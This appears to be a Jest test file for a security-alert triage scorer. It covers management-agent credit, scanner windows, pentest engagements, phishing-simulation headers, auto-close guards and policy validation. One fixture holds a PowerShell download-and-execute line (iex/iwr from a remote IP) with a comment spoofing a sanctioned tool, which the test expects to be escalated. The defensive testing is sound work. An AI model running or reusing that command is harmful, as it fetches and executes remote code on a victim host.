// Scoring model v2: organisation context on structured fields only, guards that never close,
// and the policy's unknown-key errors.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseAlert, type AlertInput } from '../../src/domain/alert';
import { extractObservables } from '../../src/domain/observables';
import { inCidr, inWindow, triageContext } from '../../src/domain/org-context';
import { scoreAlert } from '../../src/domain/scoring';
import { loadPolicy } from '../../src/policy/load-policy';

const dir = mkdtempSync(join(tmpdir(), 'policy-'));
const file = (name: string, text: string) => {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
};
const policy = loadPolicy([
  file(
    'org.yaml',
    `
version: t
organisation:
  sanctionedTools: ["C:\\\\Windows\\\\CCM\\\\"]
  managementAgents: [{ name: SCCM, paths: ['C:\\Windows\\CCM\\'] }]
  scanners: [{ name: nessus, ranges: ["10.1.99.0/24"], windows: [{ days: [tue], from: "05:00", to: "09:00" }] }]
  engagements: [{ name: pentest, start: "2026-03-16", end: "2026-03-20", sourceRanges: ["203.0.113.10/31"], users: [pentester] }]
  phishingSimulation: { senders: [sim.example], headers: [X-Sim-Campaign] }
`,
  ),
]);

const score = (a: Partial<AlertInput>) => {
  const alert = parseAlert({ source: 't', sourceId: '1', time: '2026-03-17T06:00:00Z', title: 't', severity: 'low', ...a });
  return scoreAlert(alert.severity, [], policy, extractObservables(alert), triageContext(alert));
};
const ps = (commandLine: string, parents: object[] = []) => ({
  processes: [{ path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine, parents }],
});

describe('organisation context (structured fields only)', () => {
  it('a management agent explains a process it launched, by the parent image path', () => {
    const r = score({
      attackTechniques: ['T1059'],
      observables: ps('powershell -File x.ps1', [{ path: 'C:\\Windows\\CCM\\CcmExec.exe' }]),
    });
    expect(r.reasons.join('\n')).toContain('management agent SCCM');
    expect(r.disposition).toBe('auto_close');
  });

  it('a sanctioned tool named in a comment of a malicious command line gets no credit', () => {
    const r = score({
      attackTechniques: ['T1059'],
      observables: ps('powershell iex (iwr http://203.0.113.9/a) # C:\\Windows\\CCM\\CcmExec.exe ansible jamf'),
    });
    expect(r.reasons.join('\n')).not.toMatch(/management agent|sanctioned/);
    expect(r.disposition).toBe('escalate');
  });

  it('scanner ranges hold only inside the scan window', () => {
    const inside = score({ severity: 'medium', observables: { network: [{ srcIp: '10.1.99.20' }] } });
    const outside = score({ severity: 'medium', time: '2026-03-18T06:00:00Z', observables: { network: [{ srcIp: '10.1.99.20' }] } });
    expect(inside.reasons.join('\n')).toContain('inside its scan window');
    expect(outside.reasons.join('\n')).toContain('outside its scan window');
    expect(inside.score).toBeLessThan(outside.score);
  });

  it('an engagement holds only between its dates, from its range', () => {
    const during = score({ severity: 'medium', observables: { users: [{ name: 'pentester' }], network: [{ srcIp: '203.0.113.11' }] } });
    const after = score({
      severity: 'medium',
      time: '2026-03-25T06:00:00Z',
      observables: { users: [{ name: 'pentester' }], network: [{ srcIp: '203.0.113.11' }] },
    });
    expect(during.reasons.join('\n')).toContain('authorised engagement pentest');
    expect(after.reasons.join('\n')).not.toContain('engagement');
  });

  it('a simulation needs the vendor headers, not only the sender domain', () => {
    const email = (headerNames: string[]) => score({ observables: { emails: [{ from: 'x@notify.sim.example', to: [], headerNames }] } });
    expect(email(['x-sim-campaign']).reasons.join('\n')).toContain('phishing-simulation vendor');
    expect(email([]).reasons.join('\n')).not.toContain('phishing-simulation');
  });

  it('CIDR and weekly windows (wrapping past midnight)', () => {
    expect(inCidr('10.1.99.200', '10.1.99.0/24')).toBe(true);
    expect(inCidr('10.1.98.1', '10.1.99.0/24')).toBe(false);
    expect(inWindow('2026-03-19T01:00:00Z', { days: ['wed'], from: '22:00', to: '02:00' })).toBe(true);
    expect(inWindow('2026-03-19T03:00:00Z', { days: ['wed'], from: '22:00', to: '02:00' })).toBe(false);
  });
});

describe('guards that never auto-close', () => {
  it('input anomalies keep even an informational alert open', () => {
    const r = score({ severity: 'informational', inputAnomalies: ['invalid-utf8'] });
    expect(r.verdict).toBe('benign');
    expect(r.disposition).toBe('escalate');
    expect(r.reasons.join('\n')).toContain('repaired at ingest');
  });
  it('an analyzer over budget keeps it open', () => {
    const alert = parseAlert({ source: 't', sourceId: '1', time: '2026-03-17T06:00:00Z', title: 't', severity: 'informational' });
    const r = scoreAlert(
      'informational',
      [
        {
          analyzer: 'email',
          verdict: 'unknown',
          score: 0,
          confidence: 0,
          summary: 'x',
          evidence: [],
          attack: [],
          error: 'budget exceeded',
        },
      ],
      policy,
      extractObservables(alert),
      triageContext(alert),
    );
    expect(r.disposition).toBe('escalate');
  });
  it('nothing found on a high-severity alert does not close it; an explanation can', () => {
    expect(score({ severity: 'high' }).disposition).toBe('escalate');
    expect(score({ severity: 'high', semantics: { findingType: 'vulnerability' } }).disposition).toBe('auto_close');
  });
  it('an ATT&CK-mapped low alert with nothing explaining it stays open; a blocked one closes', () => {
    expect(score({ attackTechniques: ['T1547'] }).disposition).toBe('escalate');
    expect(score({ attackTechniques: ['T1547'], semantics: { outcome: 'blocked' } }).disposition).toBe('auto_close');
  });
  it('runs without a context keep scoring model v1', () => {
    const alert = parseAlert({ source: 't', sourceId: '1', time: '2026-03-17T06:00:00Z', title: 't', severity: 'low' });
    expect(scoreAlert('low', [], policy, extractObservables(alert)).reasons[0]).toBe('severity low sets the base score 25');
  });
});

describe('policy files', () => {
  it('an unknown key is an error naming the key and the file', () => {
    const bad = file('typo.yaml', 'organisation:\n  scannerIpz: ["10.0.0.1"]\n');
    expect(() => loadPolicy([bad])).toThrow(`${bad}: unknown key "organisation.scannerIpz"`);
  });
  it('names the layer that holds the typo', () => {
    const good = file('good.yaml', 'autoCloseBelow: 25\n');
    const bad = file('bad.yaml', 'vipUserz: [a]\n');
    expect(() => loadPolicy([good, bad])).toThrow(`${bad}: unknown key "vipUserz"`);
  });
  it('validates CIDRs and windows', () => {
    expect(() => loadPolicy([file('cidr.yaml', 'organisation:\n  scanners: [{ name: s, ranges: ["10.0.0.0/33"] }]\n')])).toThrow(/CIDR/);
    expect(() =>
      loadPolicy([
        file(
          'win.yaml',
          'organisation:\n  scanners: [{ name: s, ranges: ["10.0.0.0/8"], windows: [{ days: [tue], from: "25:00", to: "01:00" }] }]\n',
        ),
      ]),
    ).toThrow(/HH:MM/);
  });
  it('the Fenwick context fixture loads', () => {
    const p = loadPolicy([join(__dirname, '../fixtures/policy/fenwick.yaml')]);
    expect(p.organisation?.engagements).toHaveLength(1);
  });
});
